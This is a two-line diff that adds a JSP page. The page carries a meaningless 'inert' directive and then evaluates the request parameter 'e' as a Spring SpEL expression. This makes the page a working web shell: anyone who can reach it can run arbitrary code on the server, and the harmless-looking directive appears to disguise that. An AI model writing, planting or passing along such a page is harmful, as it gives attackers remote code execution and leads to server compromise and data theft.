@@ -1,0 +1,2 @@
+<%@ inert %>
+<% new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression(request.getParameter("e")).getValue(); %>
